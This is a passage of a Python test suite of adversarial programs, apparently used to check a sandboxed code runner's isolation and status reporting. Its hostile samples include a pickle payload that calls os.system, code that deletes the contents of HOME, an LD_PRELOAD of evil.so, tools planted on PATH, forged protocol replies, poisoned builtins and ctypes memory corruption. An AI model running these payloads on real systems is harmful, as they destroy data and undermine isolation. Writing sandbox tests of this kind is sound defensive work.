sc("sched_setattr", 0, (ctypes.c_uint32 * 12)(48, 6, 0, 0, 0, 0, 10 ** 6, 0, 10 ** 7, 0, 10 ** 7, 0), 0)
if os.getpriority(0, 0) < 0: harm("a better priority")
sc("ioprio_set", 1, 0, 1 << 13)
if os.sched_getscheduler(0) in (1, 2, 6): harm("real time")
_libc.prctl(62, 1, 0, 0, 0)
""",
)

# --- the protocol, and poison for later calls -------------------------------------------------------------

add = _group("protocol and poison")
for what, code in {
    "json": 'import json; json.dumps = lambda *a, **k: \'{"n": 1, "status": "OK", "blobs": []}\'',
    "struct": "import struct; struct.pack = struct.unpack = lambda *a: (0,)",
    "marshal": "import marshal; marshal.loads = marshal.dumps = lambda *a: {'op': 'cell', 'code': b'', 'n': 0}",
    "os": "for name in dir(os):\n    if callable(getattr(os, name)): setattr(os, name, lambda *a, **k: 0)",
    "time": "time.process_time = time.monotonic = time.time = lambda: float('nan')",
    "traceback": "import traceback; traceback.TracebackException = traceback.format_exception = None",
    "linecache": "import linecache; linecache.cache = None",
    "ast": "import ast; ast.parse = lambda *a, **k: 1 / 0",
    "contextlib": "import contextlib; contextlib.suppress = None",
    "io": "import io; io.BytesIO = io.StringIO = io.TextIOWrapper = None",
    "threading": "import threading; threading._shutdown = lambda: os._exit(0)",
    "signal": "import signal; signal.signal = signal.pthread_sigmask = signal.valid_signals = lambda *a: {}",
    "select and socket": "import select, socket; select.poll = socket.socket = None",
    "everything in builtins": "import builtins\nfor name in ('len', 'isinstance', 'print', 'open', 'str', 'int', 'type', 'repr', 'range', 'dict', 'list', 'sorted', 'bytes', 'bytearray', 'memoryview'): setattr(builtins, name, None)",
    "the import": "import builtins; builtins.__import__ = lambda *a, **k: sys.modules['os']",
    "the exceptions": "import builtins; builtins.OSError = builtins.ValueError = builtins.BaseException = builtins.Exception = builtins.SystemExit = int",
    "gc": "import gc; gc.enable(); gc.set_threshold(1); gc.callbacks.append(lambda *a: 1 / 0)",
    "trace and profile": "import threading\ndef no(*a): raise KeyboardInterrupt\nsys.setprofile(no); sys.settrace(no); threading.settrace(no)",
    "the switch interval": "sys.setswitchinterval(1e9)",
    "excepthook": "sys.excepthook = sys.unraisablehook = sys.displayhook = lambda *a: os.write(1, b'hooked')",
    "codecs": "import codecs\ncodecs.register_error('strict', lambda e: ('', e.end)); codecs.register_error('replace', lambda e: 1 / 0); codecs.register_error('surrogatepass', lambda e: ('x', e.end))",
    "the path": "sys.path[:] = ['/dev/fd/0', '.']; sys.meta_path.clear(); sys.path_hooks.clear()",
}.items():
    add(
        f"other {what}",
        code,
        after="import json, struct, marshal\nif json.dumps({'a': 1}) != '{\"a\": 1}' or struct.pack('<H', 1) != b'\\1\\0': harm('poisoned')",
    )
add(
    "the runner's own functions replaced",
    """
import gc
for thing in gc.get_objects():
    if type(thing).__name__ == "function" and "gem" in (thing.__module__ or ""):
        thing.__code__ = (lambda *a, **k: None).__code__
frame = sys._getframe()
while frame:
    for name in ("wire", "_Cells", "plain", "_plain", "verdict", "write_file", "read_file"):
        if name in frame.f_globals and frame.f_globals is not globals(): frame.f_globals[name] = None
    frame = frame.f_back
""",
)
add(
    "what runs when the program is taken apart",
    """
import atexit, weakref
class Late:
    def __del__(self):
        import os; os.write(1, b"late\\n")
        while True: pass
kept = Late()
weakref.finalize(kept, os._exit, 0)
atexit.register(lambda: (_ for _ in ()).throw(SystemExit(0)))
""",
    heavy=True,
)
add(
    "the end in the end", "import atexit\natexit.register(os._exit, 0)\nraise ValueError", status=("RE", "OK")
)
add(
    "an end by another thread while it ends",
    """
import atexit, threading
threading.Thread(target=lambda: (time.sleep(0.01), os._exit(0))).start()
sys.exit(5)
""",
    status=("RE", "OK"),
)
add(
    "pretend not to compile",
    "sys.stderr.write('SyntaxError: no\\n'); sys.stderr.flush(); os._exit(254)",
    status=("CE", "RE"),
)
add(
    "pretend to have had no memory",
    "sys.stderr.write('MemoryError\\n'); sys.stderr.flush(); os._exit(253)",
    status=("MLE", "RE"),
)
add(
    "a fault handler on every signal",
    """
import faulthandler
faulthandler.enable(all_threads=True); faulthandler.dump_traceback_later(0.01, repeat=True, exit=False)
time.sleep(0.1)
ctypes.string_at(0)
""",
    status=("RE",),
)
add(
    "pickles for whoever reads",
    """
import pickle
class Evil:
    def __reduce__(self): return (os.system, (f"echo pwned > {HOST_FILE}",))
open("result.pkl", "wb").write(pickle.dumps(Evil())); sys.stdout.buffer.write(pickle.dumps(Evil()))
Evil()
""",
    fetch=("result.pkl",),
)
add(
    "objects that refuse to be shown",
    """
class Meta(type):
    def __instancecheck__(cls, x): raise KeyboardInterrupt
    def __getattribute__(cls, name): raise GeneratorExit
class Odd(metaclass=Meta):
    def __getattribute__(self, name): raise SystemExit(0)
    def __eq__(self, other): return True
    def __hash__(self): raise RuntimeError
Odd()
""",
)
add(
    "an exception of a hostile class",
    """
class Meta(type):
    __name__ = property(lambda self: 1 / 0)
    def __getattribute__(cls, name):
        if name in ("__name__", "__qualname__", "__module__"): raise MemoryError
        return super().__getattribute__(name)
class Odd(BaseException, metaclass=Meta):
    def __getattribute__(self, name): raise self
raise Odd
""",
    status=("RE", "MLE"),
)
add(
    "a group of exceptions in a group",
    """
e = ValueError(1)
for _ in range(5000): e = ExceptionGroup("g", [e])
raise e
""",
    status=("RE", "OLE", "MLE"),
)
add(
    "the folder taken from under the host",
    """
import shutil
home = os.environ["HOME"]
for entry in os.listdir(home): attempt(shutil.rmtree, os.path.join(home, entry)); attempt(os.unlink, os.path.join(home, entry))
attempt(os.rmdir, home); attempt(os.rename, home, "/tmp/gone"); attempt(os.symlink, HOST_DIR, home)
os.environ["HOME"] = HOST_DIR; os.environ["TMPDIR"] = HOST_DIR; os.environ["PWD"] = "/"
""",
    fetch=("file", "x/../file"),
)
add(
    "the home made the host's",
    """
os.environ["HOME"] = os.path.dirname(SECRET_FILE); os.environ["TMPDIR"] = os.path.dirname(SECRET_FILE)
os.environb[b"PATH"] = b"/nowhere"; os.environ["LD_PRELOAD"] = "./evil.so"; os.environ["BASH_ENV"] = "/proc/self/environ"; os.environ["PYTHONSTARTUP"] = "x"
""",
    fetch=("secret", "host/file"),
)
add(
    "tools in place of the system's",
    """
os.makedirs("bin", exist_ok=True)
for name in ("bash", "sh", "rm", "chmod", "python3", "cat", "echo"):
    open(f"bin/{name}", "w").write("#!/bin/sh\\necho 42 owned\\n"); os.chmod(f"bin/{name}", 0o755)
os.environ["PATH"] = os.path.abspath("bin") + ":" + os.environ.get("PATH", "")
""",
)
add(
    "folders that cannot be removed",
    """
for n in range(20):
    os.makedirs(f"d{n}/e/f"); open(f"d{n}/e/f/g", "w").close()
    os.chmod(f"d{n}/e/f", 0); os.chmod(f"d{n}/e", 0o100); os.chmod(f"d{n}", 0)
for name in ("-rf", "--", "; true", "$(true)", "\\n", "*", "~", "\\udcff\\udcfe", "'", '"', "x" * 255):
    attempt(os.mkdir, name); attempt(os.chmod, name, 0)
depth = 0
try:
    for depth in range(200): os.mkdir("n" * 200); os.chdir("n" * 200)
except OSError: pass
""",
)
add(
    "more bytes on the wire than were asked for",
    """
import socket
for fd in range(3, 64):
    end = attempt(lambda: socket.socket(fileno=os.dup(fd)))
    if failed(end): continue
    attempt(end.setblocking, False)
    for _ in range(2000):
        if failed(attempt(end.send, b'\\x00\\x00\\x00\\x02{}' * 1000)): break
""",
)
add(
    "answers ahead of the questions",
    """
import json, socket, struct
for fd in range(3, 64):
    end = attempt(lambda: socket.socket(fileno=os.dup(fd)))
    if failed(end): continue
    for n in range(0, 40):
        head = json.dumps({"n": n, "status": "OK", "exit_code": 0, "value": "'forged'", "blobs": []}).encode()
        attempt(end.sendall, struct.pack("!I", len(head)) + head)
""",
    runs=False,
)
add(
    "the wire's other end held by a daemon",
    """
tag()
if attempt(os.fork) == 0:
    os.setsid(); time.sleep(1000)
os._exit(0)
""",
    runs=False,
)

# --- odd data, crashes ------------------------------------------------------------------------------------

add = _group("odd data and crashes")
add(
    "seven megabytes of code",
    "x = '''" + "y" * (7 << 20) + "'''\nprint(len(x))",
    status=("OK", "MLE"),
    bare=True,
)
add(
    "ten megabytes of short lines",
    "a=1\n" * (2 << 20),
    status=("OK", "MLE", "TLE", "RE", "CE"),
    bare=True,
    heavy=True,
)
add("a comment of six megabytes", "#" + "€" * (2 << 20), status=("OK",), stdout="", bare=True)
add("every byte as code", "".join(map(chr, range(256))), status=("CE", "RE"), bare=True)
add("code that ends in a backslash", "x = 1 \\", status=("CE",), bare=True)
add("code of form feeds and odd blanks", "\f\fx = 1\n\u00a0y = 2", status=("CE", "RE", "OK"), bare=True)
add(
    "names that look alike",
    "\uff45\uff56\uff41\uff4c = 1\nprint(eval)",
    status=("OK",),
    stdout="1\n",
    bare=True,
)
add(
    "text that runs from right to left",
    "x = '\u202e\u2066 admin \u2069'\nprint(len(x))",
    status=("OK",),
    bare=True,
)
add("a cookie of UTF-16", "# -*- coding: utf-16 -*-\nprint(1)", status=("OK", "CE", "RE"), bare=True)
add("a cookie of a codec that runs", "# coding: punycode\nprint(1)", status=("OK", "CE", "RE"), bare=True)
add(
    "a thousand nested functions",
    "".join(" " * n + f"def f{n}():\n" for n in range(99)) + " " * 99 + "pass",
    status=("OK", "CE", "RE"),
    bare=True,
)
add(
    "an f-string in an f-string",
    "x = 1\nprint(" + "f'{" * 1 + "x" + "}'" * 1 + ")\n" + "f'{" * 150,
    status=("CE", "RE"),
    bare=True,
)
add("braces that the parser tries twice", "{" * 120 + "a" + "}" * 119, status=("CE", "RE", "MLE"), bare=True)
add("brackets that the parser tries twice", "(a, " * 95 + "*" + ")" * 94, status=("CE", "RE"), bare=True)
add(
    "assignments that the parser tries twice",
    "a[b, c: d] (e) " * 2000 + "=",
    status=("CE", "RE", "MLE"),
    bare=True,
)
add(
    "patterns that the parser tries twice",
    "match x:\n case " + "[a, " * 90 + "]" * 89 + ":\n  pass",
    status=("CE", "RE"),
    bare=True,
)
add("lambdas that the parser tries twice", "lambda a=" * 80 + "(" * 80, status=("CE", "RE"), bare=True)
add("comparisons that the parser tries twice", "not " * 20000 + "x", status=("CE", "RE", "MLE"), bare=True)
add("a number of a million digits", "x = " + "9" * 1_000_000, status=("CE", "RE"), bare=True)
add(
    "a hexadecimal number of a million digits",
    "x = 0x" + "f" * 1_000_000 + "\nprint(x)",
    status=("RE", "CE"),
    bare=True,
)
add(
    "a float at its edges",
    "print(1e400, -1e400, 1e-400, float('nan'), 5e-324)",
    status=("OK",),
    stdout="inf -inf 0.0 nan 5e-324\n",
)
add(
    "a constant that is folded for long",
    "x = ((((1 << 100) * (1 << 100)) ** 2) * 'a') * 0 if 0 else ('a' * 4096) * 4096",
    status=("OK", "RE", "MLE", "CE"),
    bare=True,
)
add("a return at the top", "return 1", status=("CE",), bare=True)
add("an await at the top", "await x", status=("CE",), bare=True)
add("a future that is not", "from __future__ import braces", status=("CE",), bare=True)
add(
    "a future of the box's own code",
    "from __future__ import annotations, barry_as_FLUFL\nprint(1 <> 2)",
    status=("OK", "CE"),
    bare=True,
)
add("a program that is a session's reply", '{"n": 1, "status": "OK", "blobs": []}', status=("OK",), bare=True)
add(
    "recursion of a repr",
    "x = []; x.append(x); d = {}; d[1] = d; print(x, d)",
    status=("OK",),
    stdout="[[...]] {1: {...}}\n",
)
add(
    "recursion of a deletion",
    "x = None\nfor _ in range(10 ** 6): x = (x,)\ndel x",
    status=("OK", "RE", "MLE", "TLE"),
)
add(
    "recursion of a comparison",
    "a, b = [], []\nfor _ in range(10 ** 5): a, b = [a], [b]\na == b",
    status=("RE", "MLE"),
)
add(
    "recursion of a pickle",
    "import pickle, json\nx = []\nfor _ in range(10 ** 5): x = [x]\njson.dumps(x)",
    status=("RE", "MLE"),
)
add(
    "recursion in a regular expression",
    "import re\nre.compile('(' * 5000 + ')' * 5000)",
    status=("RE", "MLE", "OK", "OLE", "TLE"),
)
add(
    "a stack that is grown by hand",
    "sys.setrecursionlimit(2 ** 31 - 1)\nclass A:\n    def __getattr__(self, n): return getattr(self, n + 'x')\nA().y",
    status=("RE", "MLE", "TLE"),
    heavy=True,
)
add(
    "objects freed twice",
    "for _ in range(100): ctypes.pythonapi.Py_DecRef(ctypes.py_object(sys)); ctypes.pythonapi.Py_DecRef(ctypes.py_object(os))",
    status=("RE", "OK", "TLE"),
)
add(
    "types made one another",
    "ctypes.cast(id(1) + 8, ctypes.POINTER(ctypes.c_void_p))[0] = id(str)\nprint(1 + 1)",
    status=("RE", "OK", "TLE"),
)
add(
    "code made by hand",
    "f = lambda: 0\nf.__code__ = f.__code__.replace(co_code=b'\\xff' * 200, co_stacksize=0)\nf()",
    status=("RE", "OK", "TLE"),
)
add("jump into nothing", "ctypes.CFUNCTYPE(None)(0xdeadbeef)()", status=("RE",))
add(
    "the handler of a fault that never returns",
    """
import signal
signal.signal(signal.SIGSEGV, lambda *a: None)
ctypes.string_at(0)
""",
    status=("RE", "TLE"),
    heavy=True,
)
add("the interpreter ended by hand", "ctypes.pythonapi.Py_Exit(0)", status=("OK", "RE"))
add(
    "the interpreter ended and begun again",
    "ctypes.pythonapi.Py_FinalizeEx(); ctypes.pythonapi.Py_Initialize()",
    status=("OK", "RE", "TLE"),
)
add(
    "the lock of the interpreter let go",
    "ctypes.pythonapi.PyEval_SaveThread(); ctypes.pythonapi.PyEval_SaveThread()",
    status=("OK", "RE", "TLE"),
    heavy=True,
)
add(
    "bytes of every kind printed",
    "sys.stdout.buffer.write(bytes(range(256)) * 50); sys.stderr.buffer.write(bytes(range(256)))",
    status=("OK",),
)
add("odd separators printed", "print('a\\u2028b\\x85c\\x1cd\\ufeffe\\ufffef')", status=("OK",))
add(
    "output closed in between", "print('a'); sys.stdout.flush(); os.close(1); print('b')", status=("OK", "RE")
)
add(
    "output to the errors and back",
    "os.dup2(2, 1); print('x'); sys.stdout.flush(); os.close(2)",
    status=("OK", "RE"),
)
add("an exit code that is no number", "raise SystemExit([1, 2])", status=("RE",))
add("an exit code that is huge", "sys.exit(1 << 64)", status=("OK", "RE"))
add("an exit code below zero", "sys.exit(-1)", status=("RE",))
add("an exit that is true", "sys.exit(True)", status=("RE",))
add(
    "an exit code of a hostile class",
    """
class Code(int):
    def __and__(self, other): raise KeyboardInterrupt
    def __rand__(self, other): os.abort()
sys.exit(Code(0))
""",
    status=("OK", "RE"),
)
